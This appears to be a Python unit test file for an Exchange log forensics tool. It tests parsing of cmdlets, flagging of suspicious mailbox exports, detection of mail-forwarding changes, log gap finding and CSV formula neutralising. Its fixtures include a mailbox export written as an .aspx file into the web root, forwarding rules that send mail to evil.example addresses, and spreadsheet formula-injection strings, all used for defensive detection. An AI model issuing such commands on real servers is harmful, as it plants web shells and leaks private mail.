"""Unit tests: cmdlet parsing, export classification, forwarding, log gaps, timeline escaping."""

from __future__ import annotations

from datetime import UTC, datetime

from lekdicht.correlate.commands import Command, parse_dash_params, parse_ecp_cmd
from lekdicht.correlate.exposure import mail_flow_changes, mailbox_exports
from lekdicht.correlate.gaps import coverage_gaps, hourly_gaps
from lekdicht.correlate.timeline import to_csv


def test_parse_dash_params_quotes_and_flags() -> None:
    params = parse_dash_params(
        "-Mailbox \"carol\" -FilePath '\\\\127.0.0.1\\c$\\a.aspx' -Confirm:$false -Force"
    )
    assert params == {
        "Mailbox": "carol",
        "FilePath": "\\\\127.0.0.1\\c$\\a.aspx",
        "Confirm": "$false",
        "Force": "",
    }
    assert parse_dash_params('-Name "say ""hi"""') == {"Name": 'say "hi"'}


def test_parse_ecp_cmd() -> None:
    name, params = parse_ecp_cmd("New-InboxRule.Name='fwd'.ForwardTo='x@evil.example'.Mailbox='anna'")
    assert name == "New-InboxRule"
    assert params == {"Name": "fwd", "ForwardTo": "x@evil.example", "Mailbox": "anna"}


def _cmd(name: str, **params: str) -> Command:
    return Command(
        name=name,
        params=params,
        caller="EXAMPLE/admin",
        time=datetime(2021, 8, 10, tzinfo=UTC),
        path="ev.jsonl",
        line=3,
    )


def test_export_classification() -> None:
    exports, grants = mailbox_exports(
        [
            _cmd(
                "New-MailboxExportRequest",
                Mailbox="a",
                FilePath="\\\\localhost\\c$\\inetpub\\wwwroot\\x.aspx",
            ),
            _cmd("New-MailboxExportRequest", Mailbox="b", FilePath="D:\\Exports\\b.pst"),
            _cmd("New-ManagementRoleAssignment", Role="Mailbox Import Export", User="svc"),
        ]
    )
    assert [(e.mailbox, e.suspicious) for e in exports] == [("a", True), ("b", False)]
    assert "UNC" in exports[0].reason
    assert grants[0]["granted_to"] == "svc"


def test_forwarding_changes_and_null_values() -> None:
    flows = mail_flow_changes(
        [
            _cmd("Set-Mailbox", Identity="ceo", ForwardingSmtpAddress="smtp:drop@evil.example"),
            _cmd("Set-Mailbox", Identity="ceo", ForwardingSmtpAddress="$null"),
            _cmd("New-InboxRule", Mailbox="cfo", Name="x", RedirectTo="a@evil.example"),
            _cmd("Set-Mailbox", Identity="x", ProhibitSendQuota="1GB"),
        ],
        [],
    )
    assert [(f["mailbox"], f["destination"]) for f in flows] == [
        ("ceo", "smtp:drop@evil.example"),
        ("cfo", "a@evil.example"),
    ]


def test_hourly_gaps_per_protocol_folder() -> None:
    paths = [f"L/HttpProxy/Owa/HttpProxy_20210303{h:02d}-1.LOG" for h in (0, 1, 2, 10, 11)]
    paths += [f"L/HttpProxy/Ews/HttpProxy_20210303{h:02d}-1.LOG" for h in range(12)]
    gaps = hourly_gaps(paths)
    assert gaps == [
        {
            "folder": "L/HttpProxy/Owa",
            "after": "2021-03-03 02:00",
            "before": "2021-03-03 10:00",
            "missing_hours": 7,
        }
    ]


def test_coverage_gaps() -> None:
    t = lambda d, h: datetime(2021, 3, d, h, tzinfo=UTC)  # noqa: E731
    gaps = coverage_gaps([(t(1, 0), t(1, 23)), (t(1, 12), t(2, 1)), (t(5, 0), t(5, 5))])
    assert gaps == [{"from": "2021-03-02T01:00:00Z", "to": "2021-03-05T00:00:00Z", "hours": 71.0}]


def test_timeline_csv_neutralises_formulas() -> None:
    text = to_csv(
        [{"datetime": "2021-03-03T02:10:41Z", "message": '=HYPERLINK("http://x")', "user_agent": "+cmd"}]
    )
    row = text.splitlines()[1]
    assert "'=HYPERLINK" in row and "'+cmd" in row


def test_client_address_is_the_first_hop() -> None:
    from lekdicht.correlate.activity import client_ip
    from lekdicht.scan.entities import entities_from

    assert entities_from({"ClientIpAddress": "203.0.113.9 10.0.0.5 10.0.0.6"}).client_ip == "203.0.113.9"
    assert client_ip({"ClientIpAddress": "203.0.113.9, 10.0.0.5"}) == "203.0.113.9"
    assert client_ip({"c-ip": "198.51.100.4:51234"}) == "198.51.100.4"
    assert client_ip({"c-ip": "-"}) == ""


def test_second_pass_keeps_the_earliest_requests_when_over_the_cap(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from lekdicht.catalog.kinds import ArtefactKind
    from lekdicht.correlate import second_pass as sp
    from support.logsynth import iis, iis_file

    monkeypatch.setattr(sp, "MAX_ACTIVITIES", 3)
    files = []
    for name, hour in (("b.log", "05"), ("a.log", "04")):
        lines = [
            iis("GET", f"/owa/{i}", ip="203.0.113.37").replace("02:10:41", f"{hour}:00:{i:02d}")
            for i in range(4)
        ]
        (tmp_path / name).write_text(iis_file(lines))
        files.append((name, tmp_path / name, ArtefactKind.IIS_W3C))
    result = sp.second_pass(files, {"203.0.113.37"}, workers=1)
    assert [(a.path, a.line) for a in result.activities] == [("a.log", 5), ("a.log", 6), ("a.log", 7)]
    assert result.dropped_activities == 5
